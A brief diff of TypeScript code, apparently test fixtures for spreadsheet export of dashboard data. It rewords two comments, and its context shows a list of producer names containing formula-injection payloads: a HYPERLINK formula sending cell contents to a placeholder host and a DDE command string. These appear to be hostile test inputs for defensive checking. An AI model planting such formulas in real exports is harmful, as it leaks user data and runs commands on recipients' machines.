@@ -26,7 +26,7 @@ const MAIN_TABLE: Record<Dashboard, string> = {
   traffic: 'timeSeries',
 }
 
-/** What a producer may call its things. */
+/** Names that a producer may use. */
 const NAMES = [
   '=HYPERLINK("http://x.test/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -68,7 +68,7 @@ function valuesOf(records: string[][], like: Value[][]): Value[][] {
   )
 }
 
-/** What a spreadsheet makes of a day or an instant in UTC: days since 30 December 1899. */
+/** A day or an instant in UTC as a spreadsheet stores it: days since 30 December 1899. */
 function dated(value: Value): Value {
   const isDate = typeof value === 'string' && /^\d{4}-\d\d-\d\d(T[\d:.]+Z)?$/.test(value)
   return isDate ? (Date.parse(value) - Date.UTC(1899, 11, 30)) / 86_400_000 : value
